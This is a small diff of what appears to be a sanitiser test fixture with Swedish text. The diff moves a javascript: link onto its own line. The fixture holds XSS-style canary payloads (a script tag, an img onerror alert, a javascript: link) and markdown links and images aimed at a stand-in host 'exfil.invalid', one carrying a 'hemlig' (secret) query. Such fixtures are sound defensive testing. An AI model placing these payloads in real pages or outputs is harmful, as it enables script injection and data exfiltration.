@@ -41,7 +41,8 @@ Skolgård <script>document.title = "KANARIEFÅGEL"</script>
 
 {FACTS["markup.txt"]}
 
-<img src="https://exfil.invalid/a.png" onerror="alert('KANARIEFÅGEL')"> <b>fet</b> <a href="javascript:alert(1)">länk</a>
+<img src="https://exfil.invalid/a.png" onerror="alert('KANARIEFÅGEL')"> <b>fet</b>
+<a href="javascript:alert(1)">länk</a>
 
 [Läs beslutet](https://exfil.invalid/beslut) ![karta](https://exfil.invalid/karta.png?fraga=hemlig)
 
